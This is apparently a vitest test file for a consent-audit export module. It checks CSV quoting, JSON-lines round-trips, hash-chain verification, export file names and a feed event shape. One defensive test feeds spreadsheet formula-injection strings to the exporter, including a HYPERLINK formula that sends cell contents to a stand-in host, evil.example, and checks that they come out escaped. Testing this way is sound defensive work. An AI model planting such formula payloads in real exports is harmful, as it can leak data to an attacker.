import { describe, expect, it } from 'vitest'
import { type AuditEntry, chain, GENESIS, verifyChain } from './audit'
import {
  AUDIT_CSV_HEADER,
  AUDIT_FIELDS,
  AUDIT_RECORD_FIELDS,
  csvField,
  exportFileName,
  exportLine,
} from './audit-format'
import { feedEventOf } from './feed-event'

const entry: AuditEntry = chain(GENESIS, {
  customerId: 'C-0001',
  purposeId: 'marketing-sms',
  decisionId: 'd-1',
  decision: 'withdrawn',
  previousState: 'granted',
  newState: 'withdrawn',
  conflicted: false,
  actorId: 'csr1',
  actorRole: 'csr',
  channel: 'phone',
  noticeVersion: '1.0',
  evidence: 'said "stop", call 12,\nref 9',
  deviceAt: '2026-11-26T10:00:00Z',
  receivedAt: '2026-11-26T10:00:01.000Z',
  connectionId: 'conn-1',
  updateHash: 'ab'.repeat(32),
})

/** The next entry, made under a catalog that gives the notice's text hash. */
const { seq: _seq, prevHash: _prev, hash: _hash, ...record } = entry
const hashed: AuditEntry = chain(entry, { ...record, decisionId: 'd-2', noticeHash: 'cd'.repeat(32) })

describe('audit export formats', () => {
  it('names every field of an entry once, the chain fields only in the full list', () => {
    expect([...AUDIT_FIELDS].sort()).toEqual(Object.keys(hashed).sort())
    expect(AUDIT_RECORD_FIELDS).not.toContain('hash')
    expect(AUDIT_RECORD_FIELDS).toContain('noticeHash')
    expect(AUDIT_RECORD_FIELDS).toHaveLength(AUDIT_FIELDS.length - 3)
  })

  it('exports the notice hash as the last CSV column, empty for an entry without one', () => {
    expect(AUDIT_FIELDS.at(-1)).toBe('noticeHash')
    expect(AUDIT_CSV_HEADER.endsWith(',hash,noticeHash\r\n')).toBe(true)
    const plain = exportLine({ ...entry, evidence: null }, 'csv')
    expect(plain.endsWith(`,${entry.hash},\r\n`)).toBe(true)
    expect(plain).not.toContain('undefined')
    const row = exportLine({ ...hashed, evidence: null }, 'csv')
    expect(row.endsWith(`,${hashed.hash},${'cd'.repeat(32)}\r\n`)).toBe(true)
    // Every row as many columns as the header.
    for (const r of [plain, row]) expect(r.split(',')).toHaveLength(AUDIT_FIELDS.length)
  })

  it('writes JSON lines as the entries exactly, with or without a notice hash, so they verify', () => {
    const lines = [exportLine(entry, 'jsonl'), exportLine(hashed, 'jsonl')]
    const parsed = lines.map((l) => JSON.parse(l) as AuditEntry)
    expect(parsed).toStrictEqual([entry, hashed])
    expect('noticeHash' in parsed[0]!).toBe(false)
    expect(verifyChain(parsed).ok).toBe(true)
  })

  it('quotes CSV fields holding commas, quotes or line breaks (RFC 4180) and leaves null empty', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField(null)).toBe('')
    expect(csvField(false)).toBe('false')
    const row = exportLine(entry, 'csv')
    expect(row.endsWith('\r\n')).toBe(true)
    expect(row).toContain('"said ""stop"", call 12,\nref 9"')
    expect(AUDIT_CSV_HEADER).toBe(`${AUDIT_FIELDS.join(',')}\r\n`)
  })

  it('neutralises CSV cells a spreadsheet would run as formulas (SPEC 4.4)', () => {
    expect(csvField('=1+2')).toBe(`"'=1+2"`)
    expect(csvField('+1+2')).toBe(`"'+1+2"`)
    expect(csvField('-1+2')).toBe(`"'-1+2"`)
    expect(csvField('@SUM(1,2)')).toBe(`"'@SUM(1,2)"`)
    expect(csvField('\t=1+2')).toBe(`"'\t=1+2"`)
    expect(csvField('\r=1+2')).toBe(`"'\r=1+2"`)
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
    )
    // Text that looks like a negative number is still text; a number is data.
    expect(csvField('-1')).toBe(`"'-1"`)
    expect(csvField(-1)).toBe('-1')
    expect(csvField(true)).toBe('true')
    // Only the first character counts; a value already starting with ' is left alone.
    expect(csvField('1+2=3')).toBe('1+2=3')
    expect(csvField("'=x")).toBe("'=x")
    expect(csvField(' =1+2')).toBe(' =1+2')
    const row = exportLine({ ...entry, evidence: '=1+2', decisionId: '@d' }, 'csv')
    expect(row).toContain(`,"'@d",`)
    expect(row).toContain(`,"'=1+2",`)
  })

  it('writes one JSON line per entry that parses back to the entry', () => {
    const line = exportLine(entry, 'jsonl')
    expect(line.endsWith('\n')).toBe(true)
    expect(JSON.parse(line)).toEqual(entry)
    const formula = { ...entry, evidence: '=1+2' }
    expect(JSON.parse(exportLine(formula, 'jsonl'))).toEqual(formula)
  })

  it('names export files by customer and day', () => {
    const day = new Date('2026-11-26T23:00:00Z')
    expect(exportFileName('csv', 'C-0001', day)).toBe('consent-audit-C-0001-2026-11-26.csv')
    expect(exportFileName('jsonl', undefined, day)).toBe('consent-audit-2026-11-26.jsonl')
  })
})

describe('live feed event', () => {
  it('keeps the original consent-updated shape (DESIGN.md §7)', () => {
    expect(feedEventOf(entry, 'Dilani')).toEqual({
      type: 'consent-updated',
      consent: {
        customerId: 'C-0001',
        purposeId: 'marketing-sms',
        state: 'withdrawn',
        previousState: 'granted',
        conflicted: false,
        decisionId: 'd-1',
        channel: 'phone',
        noticeVersion: '1.0',
      },
      timestamp: '2026-11-26T10:00:01.000Z',
      updatedBy: { userId: 'csr1', userType: 'csr', userName: 'Dilani' },
    })
  })
})
